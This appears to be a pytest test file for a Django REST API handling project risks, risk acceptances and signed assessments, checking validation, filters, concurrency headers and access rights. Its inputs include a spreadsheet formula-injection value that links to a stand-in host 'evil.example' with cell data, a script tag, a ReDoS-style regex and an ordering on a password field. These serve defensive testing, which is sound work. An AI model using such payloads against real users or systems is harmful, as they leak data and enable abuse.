"""Risks and assessments at the API's door."""

from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from rest_framework.test import APIClient

from accounts.models import User
from common import clock
from journal.models import Entry
from projects.models import Project
from risks.models import Risk
from tests.fixtures.people import AddMember, MakeProject
from tests.fixtures.rooms import MakeRisk
from tests.risks.test_assessments import KEY, all_yes

pytestmark = [pytest.mark.core, pytest.mark.usefixtures("frozen")]
Api = Callable[[User | None], APIClient]
LIST, VALID = (
    "/api/v1/projects/RECO/risks/",
    {"title": "Risk", "category": "technical", "likelihood": 2, "impact": 3},
)


def test_a_risk_is_written_and_read(api: Api, contributor: User) -> None:
    client = api(contributor)

    answer = client.post(LIST, {**VALID, "owner": "Contributor", "cause": "few data"}, format="json")

    assert answer.status_code == 201
    body = answer.json()
    assert (body["owner"], body["project"], body["accepted"]) == ("contributor", "RECO", False)
    assert body["current"] == body["inherent"] == {"likelihood": 2, "impact": 3, "score": 6, "level": "medium"}
    assert body["residual"] is None
    assert answer.headers["ETag"] == '"v1"'
    assert client.get(f"/api/v1/risks/{body['id']}/").json() == body


@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil.example?x="&A1,"ok")', "=1+1", "<script>", "密"])
def test_a_title_comes_back_as_it_was(api: Api, contributor: User, title: str) -> None:
    answer = api(contributor).post(LIST, {**VALID, "title": title}, format="json")

    assert (answer.status_code, answer.json()["title"]) == (201, title)


@pytest.mark.parametrize(
    ("change", "code", "field"),
    [
        ({"likelihood": 6}, "out_of_range", "likelihood"),
        ({"impact": "3"}, "invalid_type", "impact"),
        ({"category": "weather"}, "invalid_choice", "category"),
        ({"title": "a\nb"}, "control_character", "title"),
        ({"title": " "}, "blank", "title"),
        ({"owner": "stranger"}, "not_found", "owner"),
        ({"owner": "nobody-at-all"}, "not_found", "owner"),
        ({"library": "nothing"}, "invalid_choice", "library"),
        ({"state": "closed"}, "unknown_field", "state"),
        ({"residual": {"likelihood": 3}}, "required", "residual/impact"),
    ],
)
def test_bad_risks_get_a_clear_answer(
    api: Api, contributor: User, stranger: User, change: dict[str, Any], code: str, field: str
) -> None:
    answer = api(contributor).post(LIST, {**VALID, **change}, format="json")

    assert (answer.status_code, answer.json()["code"]) == (400, code)
    assert answer.json()["errors"][0]["pointer"] == f"/{field}"
    assert not Risk.objects.exists()


@pytest.mark.parametrize(
    ("query", "codes", "field"),
    [
        ("score_min=abc", {"invalid_type"}, "score_min"),
        ("owner=%00", {"null_character", "invalid_type"}, "owner"),
        ("level=huge", {"invalid_choice"}, "level"),
        ("name__regex=(a%2B)%2B%24", {"unknown_parameter"}, "name__regex"),
        ("ordering=owner__password", {"invalid_ordering"}, "ordering"),
    ],
)
def test_bad_filters_get_a_clear_answer(api: Api, contributor: User, query: str, codes: set[str], field: str) -> None:
    answer = api(contributor).get(f"{LIST}?{query}")

    assert answer.status_code == 400
    assert answer.json()["code"] in codes
    assert answer.json()["errors"][0]["pointer"] == f"/{field}"


def test_filters_find_what_they_say(
    api: Api, project: Project, contributor: User, owner: User, make_risk: MakeRisk
) -> None:
    make_risk(project, contributor, 2, 2, title="low")
    make_risk(project, contributor, 3, 4, title="high", category="ethical", owner=owner)
    make_risk(project, contributor, 5, 5, title="critical")
    client = api(contributor)

    def titles(**query: str) -> list[str]:
        return [row["title"] for row in client.get(LIST, query).json()["results"]]

    assert titles() == ["critical", "high", "low"]
    assert titles(level="low,high") == ["high", "low"]
    assert titles(score_min="12", score_max="12") == ["high"]
    assert titles(category="ethical") == titles(owner="OWNER") == ["high"]
    assert titles(state="closed") == titles(accepted="true") == []


def test_a_risk_is_scored_again(api: Api, project: Project, contributor: User, make_risk: MakeRisk) -> None:
    risk, client = make_risk(project, contributor, 4, 5), api(contributor)
    url = f"/api/v1/risks/{risk.pk}/"

    nested = client.patch(url, {"current": {"likelihood": 2, "impact": 5}}, format="json", HTTP_IF_MATCH='"v1"')
    loose = client.patch(url, {"likelihood": 1, "version": 2}, format="json")

    assert (nested.status_code, nested.json()["current"]["score"]) == (200, 10)
    assert (loose.status_code, loose.json()["current"]["score"]) == (200, 5)
    assert loose.json()["inherent"]["score"] == 20


def test_what_was_read_may_be_sent_back(
    api: Api, project: Project, contributor: User, make_risk: MakeRisk, frozen: clock.Frozen
) -> None:
    risk, client = make_risk(project, contributor, 4, 5, owner=contributor), api(contributor)
    body = client.get(f"/api/v1/risks/{risk.pk}/").json()
    frozen.move(timedelta(hours=1))

    answer = client.patch(f"/api/v1/risks/{risk.pk}/", {**body, "title": "Better name"}, format="json")

    assert answer.status_code == 200, answer.json()
    assert answer.json() == {**body, "title": "Better name", "version": 2}


@pytest.mark.parametrize(
    ("change", "code"),
    [
        ({"project": "OTHER"}, "read_only_field"),
        ({"inherent": {"likelihood": 1, "impact": 1, "score": 25}}, "read_only_field"),
        ({"accepted": True}, "read_only_field"),
        ({"state": "gone"}, "invalid_choice"),
        ({"colour": "red"}, "unknown_field"),
    ],
)
def test_what_follows_from_elsewhere_is_not_written(
    api: Api,
    project: Project,
    contributor: User,
    make_project: MakeProject,
    make_risk: MakeRisk,
    change: dict[str, Any],
    code: str,
) -> None:
    make_project("OTHER")
    risk = make_risk(project, contributor)

    answer = api(contributor).patch(f"/api/v1/risks/{risk.pk}/", {**change, "version": 1}, format="json")

    assert (answer.status_code, answer.json()["code"]) == (400, code)


def test_a_change_says_what_it_rests_on(api: Api, project: Project, contributor: User, make_risk: MakeRisk) -> None:
    url, client = f"/api/v1/risks/{make_risk(project, contributor).pk}/", api(contributor)

    assert client.patch(url, {"title": "x"}, format="json").status_code == 428
    assert client.patch(url, {"title": "x"}, format="json", HTTP_IF_MATCH='"v7"').status_code == 412
    assert client.patch(url, {"title": "x"}, format="json", HTTP_IF_MATCH="*").status_code == 400


def test_rights_at_the_door(
    api: Api,
    project: Project,
    contributor: User,
    viewer: User,
    stranger: User,
    make_risk: MakeRisk,
    token_client: Callable[..., APIClient],
) -> None:
    risk = make_risk(project, contributor)
    Project.objects.filter(pk=project.pk).update(visibility="private")
    url = f"/api/v1/risks/{risk.pk}/"

    assert api(None).get(url).status_code == 401
    assert api(stranger).get(url).status_code == 404
    assert api(stranger).get(LIST).status_code == 404
    assert api(viewer).get(url).status_code == 200
    assert api(viewer).post(LIST, VALID, format="json").status_code == 403
    assert api(viewer).patch(url, {"title": "x", "version": 1}, format="json").status_code == 403
    assert token_client(contributor, ["projects:read"]).post(LIST, VALID, format="json").status_code == 403


def test_a_list_costs_the_same_however_long(
    api: Api,
    project: Project,
    contributor: User,
    make_risk: MakeRisk,
    django_assert_max_num_queries: Callable[..., Any],
) -> None:
    for number in range(12):
        make_risk(project, contributor, title=f"Risk {number}", owner=contributor)
    client = api(contributor)

    with django_assert_max_num_queries(8):
        assert client.get(LIST).json()["count"] == 12


def test_a_high_risk_is_accepted(
    api: Api, project: Project, contributor: User, gatekeeper: User, add_member: AddMember, make_risk: MakeRisk
) -> None:
    risk = make_risk(project, contributor, 3, 4)
    url = f"/api/v1/risks/{risk.pk}/acceptances/"
    decider = add_member(project, "decider", ["decide"]).user

    refused = api(decider).post(url, {"plan": "watch"}, format="json")
    answer = api(gatekeeper).post(url, {"plan": "watch", "until": "2026-09-01"}, format="json")

    assert (refused.status_code, refused.json()["code"]) == (403, "permission_denied")
    assert refused.json()["missing"] == ["risk_officer", "sponsor"]
    assert (answer.status_code, answer.json()["accepted_as"], answer.json()["until"]) == (
        201,
        "sponsor",
        "2026-09-01",
    )
    assert api(contributor).get(f"/api/v1/risks/{risk.pk}/").json()["accepted"] is True
    assert api(contributor).get(url).json()["count"] == 1


def test_an_assessment_is_filled_in_and_approved(
    api: Api, project: Project, contributor: User, add_member: AddMember
) -> None:
    counsel = add_member(project, "counsel", ["contribute"], ["legal_counsel"]).user
    officer = add_member(project, "officer", ["decide"], ["risk_officer"]).user
    client = api(contributor)

    draft = client.post("/api/v1/projects/RECO/assessments/", {"key": KEY}, format="json")
    url = f"/api/v1/assessments/{draft.json()['id']}/"
    filled = client.patch(url, {"answers": all_yes(), "version": 1}, format="json")
    handed_in = client.patch(url, {"state": "submitted", "version": 2}, format="json")
    by_filler = client.post(f"{url}signatures/", {}, format="json")
    first = api(officer).post(f"{url}signatures/", {}, format="json")
    second = api(counsel).post(f"{url}signatures/", {"role": "legal_counsel"}, format="json")

    assert (draft.status_code, draft.json()["state"]) == (201, "draft")
    assert (filled.status_code, filled.json()["percent"], filled.json()["missing"]) == (200, 100.0, [])
    assert (handed_in.status_code, handed_in.json()["state"], handed_in.json()["passes"]) == (200, "submitted", True)
    assert by_filler.status_code == 403
    assert (first.status_code, first.json()["state"]) == (201, "submitted")
    assert (second.json()["state"], second.json()["expires_on"]) == ("approved", "2027-03-02")
    verbs = [entry.verb for entry in Entry.objects.order_by("seq") if entry.verb.startswith("assessment.")]
    assert verbs == [
        "assessment.saved",
        "assessment.saved",
        "assessment.submitted",
        "assessment.signed",
        "assessment.approved",
    ]


def test_answers_are_checked(api: Api, project: Project, contributor: User) -> None:
    client, url = api(contributor), "/api/v1/projects/RECO/assessments/"

    wrong = client.post(url, {"key": KEY, "answers": {"ta_owner": "maybe", "x": "yes"}}, format="json")
    shape = client.post(url, {"key": KEY, "answers": ["yes"]}, format="json")
    unknown = client.post(url, {"key": "nothing"}, format="json")

    assert [error["pointer"] for error in wrong.json()["errors"]] == ["/answers/ta_owner", "/answers/x"]
    assert (shape.status_code, shape.json()["errors"][0]["pointer"]) == (400, "/answers")
    assert (unknown.status_code, unknown.json()["errors"][0]["pointer"]) == (400, "/key")


def test_a_refused_hand_in_keeps_the_draft_as_it_was(api: Api, project: Project, contributor: User) -> None:
    client = api(contributor)
    row = client.post("/api/v1/projects/RECO/assessments/", {"key": KEY}, format="json").json()

    answer = client.patch(
        f"/api/v1/assessments/{row['id']}/",
        {"answers": {"ta_owner": "yes"}, "state": "submitted", "version": 1},
        format="json",
    )

    assert answer.status_code == 400
    assert client.get(f"/api/v1/assessments/{row['id']}/").json() == row
    assert client.post("/api/v1/projects/RECO/assessments/", {"key": KEY}, format="json").status_code == 409


def test_assessments_of_private_projects_are_unseen(
    api: Api, project: Project, contributor: User, stranger: User
) -> None:
    row = api(contributor).post("/api/v1/projects/RECO/assessments/", {"key": KEY}, format="json").json()
    Project.objects.filter(pk=project.pk).update(visibility="private")
    client, url = api(stranger), f"/api/v1/assessments/{row['id']}/"

    assert client.get(url).status_code == 404
    assert client.patch(url, {"state": "submitted", "version": 1}, format="json").status_code == 404
    assert client.post(f"{url}signatures/", {}, format="json").status_code == 404
